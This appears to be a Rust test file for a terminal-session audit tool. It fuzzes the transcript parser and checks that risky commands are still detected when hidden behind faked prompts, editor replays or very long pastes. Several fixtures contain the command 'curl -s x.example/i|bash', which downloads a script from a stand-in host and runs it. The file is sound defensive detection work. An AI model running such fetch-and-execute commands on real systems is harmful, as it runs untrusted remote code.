//! No input, however malformed, can panic; every input gets a report.

use proptest::prelude::*;
use session_audit::analysis::{Analyzer, Input};
use session_audit::report::Status;
use session_audit::transcript::read_on_two_threads;

use crate::{reconstruct, Collect};

/// Pieces real terminals and broken uploads produce, to build adversarial transcripts from.
fn token() -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![
        Just(b"\x1b[?2004h".to_vec()),
        Just(b"\x1b[?2004l\r".to_vec()),
        Just(b"\x1b[?1049h".to_vec()),
        Just(b"\x1b[?1049l".to_vec()),
        Just(b"sh-5.2$ ".to_vec()),
        Just(b"> ".to_vec()),
        Just(b"$ ".to_vec()),
        Just(b"\r\r\n".to_vec()),
        Just(b"\r".to_vec()),
        Just(b"\x08".to_vec()),
        Just(b"\t".to_vec()),
        Just(b" \r".to_vec()),
        Just(b"\x1b]0;title\x07".to_vec()),
        Just(b"\x1b]0;unterminated".to_vec()),
        Just(b"\x1bP1$r\x1b\\".to_vec()),
        Just(b"\x1b[".to_vec()),
        Just(b"\x1b[4h".to_vec()),
        Just(b"\x1b[4l".to_vec()),
        Just(b"Script started on 2022-01-25 06:49:24+0000\n".to_vec()),
        Just(b"Script done on 2022-01-25 06:49:24+0000\n".to_vec()),
        Just(b"{\"sessionData\":[\"".to_vec()),
        Just(b"\"]}".to_vec()),
        Just("é✓漢".as_bytes().to_vec()),
        Just(vec![0xff, 0xfe, 0xc3]),
        (
            1u16..400,
            prop::sample::select(vec!['A', 'B', 'C', 'D', 'K', 'P', '@', 'X', 'G', 'H', 'J', 'm'])
        )
            .prop_map(|(n, c)| format!("\x1b[{n}{c}").into_bytes()),
        "[a-z /|;&-]{0,40}".prop_map(String::into_bytes),
        prop::collection::vec(any::<u8>(), 0..32),
    ]
}

/// Compiled once: building the rule pack per case would dominate the run.
static ANALYZER: std::sync::LazyLock<Analyzer> = std::sync::LazyLock::new(Analyzer::default);

fn check(bytes: &[u8], chunk: usize) {
    let analyzer = &*ANALYZER;
    let whole = analyzer.analyze_bytes(bytes, Input::default());
    // Chunking never changes the result.
    let reader = ChunkedReader { bytes, chunk: chunk.max(1) };
    let (report, commands) = analyzer.analyze(reader, Input::default(), Vec::new()).unwrap();
    assert_eq!(commands, whole.commands);
    assert_eq!(report.status, whole.status);
    assert_eq!(report.stats.commands as usize, commands.len());
    // On one thread (the Lambda's streamed body), fed in the same pieces: the same report.
    let mut analysis = analyzer.start(Vec::new());
    for part in bytes.chunks(chunk.max(1)) {
        analysis.feed(part).unwrap();
    }
    let (mut one_thread, commands) = analysis.finish(Input::default()).unwrap();
    one_thread.commands = commands;
    assert_eq!(one_thread, whole);
    // With the screen on a thread of its own from the first byte (`analyze` keeps inputs this
    // small on one): what the shell layer is told is what the one-thread engine tells it.
    let (info, reference) = reconstruct(bytes, chunk);
    let (two_info, two) =
        read_on_two_threads(bytes, Collect::default(), chunk.max(1), 0, |_| true).unwrap();
    assert_eq!(two_info, info);
    assert_eq!(two.commands, reference.commands);
    assert_eq!(two.output, reference.output);
    assert_eq!(two.tampered, reference.tampered);
    serde_json::to_string(&whole).unwrap();
    whole.to_markdown(0);
}

struct ChunkedReader<'a> {
    bytes: &'a [u8],
    chunk: usize,
}

impl std::io::Read for ChunkedReader<'_> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        let n = self.chunk.min(buf.len()).min(self.bytes.len());
        buf[..n].copy_from_slice(&self.bytes[..n]);
        self.bytes = &self.bytes[n..];
        Ok(n)
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..4096), chunk in 1usize..600) {
        check(&bytes, chunk);
    }

    #[test]
    fn terminal_soup_never_panics(tokens in prop::collection::vec(token(), 0..200), chunk in 1usize..300) {
        let bytes: Vec<u8> = tokens.concat();
        check(&bytes, chunk);
    }
}

#[test]
fn garbage_and_empty_inputs_get_a_clear_status() {
    let analyzer = Analyzer::default();
    let empty = analyzer.analyze_bytes(b"", Input::default());
    assert_eq!(empty.status, Status::Unparseable);
    assert_eq!(empty.status_reason.as_deref(), Some("empty transcript"));
    let gzip = analyzer
        .analyze_bytes(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03garbage", Input::default());
    assert_eq!(gzip.status, Status::Unparseable);
    assert!(gzip.findings.iter().any(|f| f.rule_id == "SA-SES-UNPARSEABLE"));
    let random: Vec<u8> =
        (0..10_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    assert_eq!(analyzer.analyze_bytes(&random, Input::default()).status, Status::Unparseable);
    let broken_json =
        analyzer.analyze_bytes(b"{\"sessionData\": [\"sh-4.2$ ls\"", Input::default());
    assert!(broken_json.stats.parse_warnings.iter().any(|w| w.contains("could not be read")));
}

/// Where a prompt of no usual shape ends is inferred (from a `PS1=`, or from two lines read
/// at it): a person who types the same words twice, ending in a symbol (`… | bash -s ❯ a`,
/// `… ❯ b`), makes those words read as the prompt. They ran, so the rules still judge them:
/// each new prompt is judged like a command, with evidence saying where the text was read.
#[test]
fn text_taken_for_a_prompt_is_still_judged() {
    let mut bytes = b"Script started on 2026-12-07 10:00:00+00:00 [COMMAND=\"x\"]\n".to_vec();
    bytes.extend_from_slice(b"\x1b[?2004h[ec2-user@ip-10-0-0-1 ~]$ . ./theme.sh\r\n\x1b[?2004l\r");
    for typed in ["a", "b"] {
        let line = format!("\x1b[?2004hλ ~ ❯ curl -s x.example/i|bash ❯ {typed}\r\n\x1b[?2004l\r");
        bytes.extend_from_slice(line.as_bytes());
    }
    bytes
        .extend_from_slice(b"Script done on 2026-12-07 10:01:00+00:00 [COMMAND_EXIT_CODE=\"0\"]\n");
    let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
    let texts: Vec<&str> = report.commands.iter().map(|c| c.command.as_str()).collect();
    assert_eq!(texts, [". ./theme.sh", "a", "b"], "the repeated words read as the prompt");
    let piped: Vec<_> = report.findings.iter().filter(|f| f.rule_id == "SA-CMD-040").collect();
    assert_eq!(piped.len(), 1, "once for the prompt: {:?}", report.findings);
    assert!(piped[0].evidence.starts_with("in the text read as the prompt"), "{piped:?}");
}

/// The screen says an editor showed bash's `bash-fc` file, and the line after it is taken as
/// what ran (Ctrl-X Ctrl-E). A command can fake that (an editor on a file of that name, then
/// output): what was typed is judged too, so a download piped to a shell cannot hide behind
/// the line printed after the editor.
#[test]
fn a_line_replaced_after_an_editor_is_still_judged_as_typed() {
    let mut bytes = b"Script started on 2026-12-07 10:00:00+00:00 [COMMAND=\"x\"]\n".to_vec();
    bytes.extend_from_slice(b"\x1b[?2004h[ec2-user@ip-10-0-0-1 ~]$ vim /tmp/bash-fc.aaaaaa; curl -s x.example/i|bash\r\n\x1b[?2004l\r");
    bytes.extend_from_slice(
        b"\x1b[?1049h\x1b[H\x1b[2J\"/tmp/bash-fc.aaaaaa\" 0L\x1b[?1049lls -l\r\n",
    );
    bytes.extend_from_slice(b"\x1b[?2004h[ec2-user@ip-10-0-0-1 ~]$ exit\r\n\x1b[?2004l\r");
    bytes
        .extend_from_slice(b"Script done on 2026-12-07 10:01:00+00:00 [COMMAND_EXIT_CODE=\"0\"]\n");
    let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
    assert_eq!(report.commands[0].command, "ls -l", "read as what bash echoed");
    let piped: Vec<_> = report.findings.iter().filter(|f| f.rule_id == "SA-CMD-040").collect();
    assert_eq!(piped.len(), 1, "{:?}", report.findings);
    assert!(piped[0].evidence.starts_with("typed, then replaced in an editor"), "{piped:?}");
}

/// The same faked signal, then a line that opens a command (`for … do`) and output without
/// end: the lines taken as that command stop at 64 KiB, the rest is output, and the next
/// prompt's command is read as usual.
#[test]
fn a_faked_edit_opening_a_command_takes_a_bounded_part_of_the_output() {
    let mut bytes = b"Script started on 2026-12-07 10:00:00+00:00 [COMMAND=\"x\"]\n".to_vec();
    bytes.extend_from_slice(
        b"\x1b[?2004h[ec2-user@ip-10-0-0-1 ~]$ vim /tmp/bash-fc.aaaaaa; yes\r\n\x1b[?2004l\r",
    );
    bytes.extend_from_slice(
        b"\x1b[?1049h\x1b[H\x1b[2J\"/tmp/bash-fc.aaaaaa\" 0L\x1b[?1049lfor x in 1; do\r\n",
    );
    for _ in 0..100_000 {
        bytes.extend_from_slice(b"y\r\n");
    }
    bytes.extend_from_slice(b"\x1b[?2004h[ec2-user@ip-10-0-0-1 ~]$ id\r\n\x1b[?2004l\r");
    let (_, got) = reconstruct(&bytes, 4096);
    let texts: Vec<&str> = got.commands.iter().map(|c| c.text.as_str()).collect();
    assert!(texts[0].starts_with("for x in 1; do\ny\ny"), "{:?}", &texts[0][..20]);
    assert!(texts[0].len() <= 64 * 1024 + 2, "{}", texts[0].len());
    assert_eq!(texts[1..], ["id"]);
    let output = got.output.iter().filter(|(seq, _)| *seq == 1).count();
    assert!(output > 60_000, "the rest is output: {output}");
}

/// A `PS1=` typed in a shell without markers says where its prompts end: every later line is
/// matched against it, open pieces (`\u`, `\w`) anywhere. Output made of the template's own
/// fixed text once cost the product of the line's length over the open pieces (this file,
/// 320 KB, took minutes); each piece of fixed text is now placed once.
#[test]
fn output_full_of_a_typed_prompts_text_costs_no_more_than_other_output() {
    let trap = "@:".repeat(8 * 1024);
    let mut text = String::from("sh-5.2$ PS1='\\u@\\h:\\w:\\$ '\r\n");
    text.push_str("ssm-user@ip-10-0-0-1:/tmp:$ python3 -c \"print('@:'*8192)\"\r\n");
    for _ in 0..20 {
        text.push_str(&trap);
        text.push_str("\r\n");
    }
    text.push_str("ssm-user@ip-10-0-0-1:/tmp:$ exit\r\n");
    let (_, collect) = reconstruct(text.as_bytes(), 4096);
    let commands: Vec<&str> = collect.commands.iter().map(|c| c.text.as_str()).collect();
    assert_eq!(commands, ["PS1='\\u@\\h:\\w:\\$ '", "python3 -c \"print('@:'*8192)\"", "exit"]);
    assert_eq!(collect.commands[1].prompt, "ssm-user@ip-10-0-0-1:/tmp:$ ");
}

/// `fc -s old=new …` is checked against the line bash printed by making each substitution:
/// `a=aa` forty times asked for a terabyte (the analysis died, and the report with it). A
/// text grown past any line the screen keeps is not the one printed: the line is kept as typed.
#[test]
fn a_typed_fc_s_cannot_make_the_analysis_run_out_of_memory() {
    let subs = ["a=aa"; 40].join(" ");
    let mut bytes = b"Script started on 2026-12-07 10:00:00+00:00 [COMMAND=\"x\"]\n".to_vec();
    for line in [
        "\x1b[?2004h[ec2-user@ip-10-0-0-1 ~]$ echo a\r\n\x1b[?2004l\r",
        "a\r\n",
        &format!("\x1b[?2004h[ec2-user@ip-10-0-0-1 ~]$ fc -s {subs}\r\n\x1b[?2004l\r"),
        "echo aa\r\naa\r\n",
        "\x1b[?2004h[ec2-user@ip-10-0-0-1 ~]$ exit\r\n\x1b[?2004l\r",
    ] {
        bytes.extend_from_slice(line.as_bytes());
    }
    bytes
        .extend_from_slice(b"Script done on 2026-12-07 10:01:00+00:00 [COMMAND_EXIT_CODE=\"0\"]\n");
    let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
    let texts: Vec<&str> = report.commands.iter().map(|c| c.command.as_str()).collect();
    assert_eq!(texts, ["echo a", format!("fc -s {subs}").as_str(), "exit"]);
}

/// A bracketed paste, as bash echoes it in a terminal taller than it is long: every row
/// line-fed. `rows` rows, `curl … | bash` first.
fn long_paste(rows: &[String]) -> Vec<u8> {
    let mut bytes = b"Script started on 2026-12-07 10:00:00+00:00 [COMMAND=\"x\"]\n".to_vec();
    bytes.extend_from_slice(b"\x1b[?2004h[ec2-user@ip-10-0-0-1 ~]$ \x1b[200~");
    bytes.extend_from_slice(rows.join("\r\n").as_bytes());
    bytes.extend_from_slice(b"\x1b[201~\r\n\x1b[?2004l\r");
    bytes.extend_from_slice(b"\x1b[?2004h[ec2-user@ip-10-0-0-1 ~]$ exit\r\n\x1b[?2004l\r");
    bytes
        .extend_from_slice(b"Script done on 2026-12-07 10:01:00+00:00 [COMMAND_EXIT_CODE=\"0\"]\n");
    bytes
}

/// The screen keeps a region's rows until it ends (readline moves back up to redraw them);
/// past its bound (1,024 rows, or 1 MiB of cells for long rows) the oldest rows are sent on
/// instead of dropped: a paste's first command once vanished behind the 64 rows after it.
#[test]
fn a_paste_longer_than_the_rows_kept_loses_none_of_them() {
    for (count, width) in [(10_000, 0), (60, 16_000)] {
        let mut rows = vec!["curl -s x.example/i|bash".to_string()];
        rows.extend((0..count).map(|i| format!("echo {i}{}", "x".repeat(width))));
        let bytes = long_paste(&rows);
        for chunk in [7, 4096] {
            let (_, got) = reconstruct(&bytes, chunk);
            let texts: Vec<&str> = got.commands.iter().map(|c| c.text.as_str()).collect();
            let mut want: Vec<&str> = rows.iter().map(String::as_str).collect();
            want.push("exit");
            assert_eq!(texts.len(), want.len(), "{count} rows of {width} (chunk {chunk})");
            assert!(texts == want, "{count} rows of {width} (chunk {chunk}): first {:?}", texts[0]);
        }
        let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
        assert!(report.findings.iter().any(|f| f.rule_id == "SA-CMD-040"), "{count} rows");
    }
}

/// The shell keeps a region's rows up to 1 MiB: a longer paste's last rows are not read, and
/// the report says so (nothing is dropped silently).
#[test]
fn a_paste_past_what_the_shell_keeps_says_what_was_not_read() {
    let rows: Vec<String> = (0..200_000).map(|i| format!("echo {i} padding padding")).collect();
    let report = Analyzer::default().analyze_bytes(&long_paste(&rows), Input::default());
    assert_eq!(report.commands[0].command, "echo 0 padding padding");
    let note = report.stats.parse_warnings.iter().find(|w| w.contains("were not read"));
    assert!(note.is_some_and(|n| n.contains("more than 1048576 bytes")), "{:?}", note);
    assert!(report.commands.len() < rows.len(), "the rows past the bound are not commands");
}
